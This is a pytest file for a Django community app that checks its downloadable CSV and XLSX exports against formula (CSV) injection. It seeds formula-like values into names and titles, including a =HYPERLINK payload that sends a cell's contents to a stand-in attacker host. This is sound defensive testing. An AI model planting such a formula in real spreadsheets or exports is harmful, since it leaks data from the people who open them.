"""Every export a person can download, swept for live formulas (OWASP CSV injection).

A meeting titled ``=HYPERLINK(...)``, a community, a member, a school and an e-mail address that
start like formulas go into the Dinas's report (CSV and XLSX) and the attendance CSV; no cell
may come back as a formula or as text a spreadsheet program would evaluate.
"""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from komunitas.communities.actions import do_add_member
from komunitas.communities.models import Community
from komunitas.insights.models import Report
from komunitas.lib.spreadsheets import is_formula_like
from komunitas.meetings.models import Attendance, Meeting
from tests.factories import make_school, make_user
from tests.insights.helpers import at

pytestmark = pytest.mark.django_db
TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Lihat")'


@pytest.fixture
def hostile(public_community, fasilitator, sleman):
    Community.objects.filter(pk=public_community.pk).update(name="=1+1 Komunitas")
    public_community.refresh_from_db()
    school = make_school(name="@SUM(1;2) SD", regency=sleman)
    person = make_user("=x@contoh.test", full_name="-2+3 Budi", school=school)
    do_add_member(community=public_community, user=person)
    meeting = Meeting.objects.create(
        community=public_community, title=TITLE, starts_at=at(datetime.date(2026, 3, 12), 14)
    )
    Attendance.objects.create(meeting=meeting, member=person, method="marked")
    return meeting


def _cells_of_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _assert_no_formula_in_csv(data: bytes, *expected: str):
    cells = _cells_of_csv(data)
    assert [c for c in cells if is_formula_like(c)] == []
    for text in expected:
        assert f"'{text}" in cells


def test_the_attendance_csv_has_no_live_formula(login, fasilitator, hostile):
    response = login(fasilitator).get(f"/pertemuan/{hostile.pk}/presensi.csv")
    assert response.status_code == 200
    # (no e-mail column any more: the privacy page says addresses are seen by their owner only)
    _assert_no_formula_in_csv(response.content, "-2+3 Budi", "@SUM(1;2) SD")
    assert "=x@contoh.test" not in response.content.decode("utf-8-sig")


def test_the_dinas_report_has_no_live_formula_in_xlsx_or_csv(login, dinas, hostile):
    response = login(dinas).post(
        "/wawasan/daerah/34.04/laporan/", {"start": "2026-01-01", "end": "2026-06-30"}
    )
    assert response.status_code == 302
    report = Report.objects.latest("pk")
    with report.xlsx.open("rb") as f:
        book = load_workbook(io.BytesIO(f.read()))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if is_formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert {TITLE, "=1+1 Komunitas"} <= seen
    with report.csv.open("rb") as f:
        _assert_no_formula_in_csv(f.read())
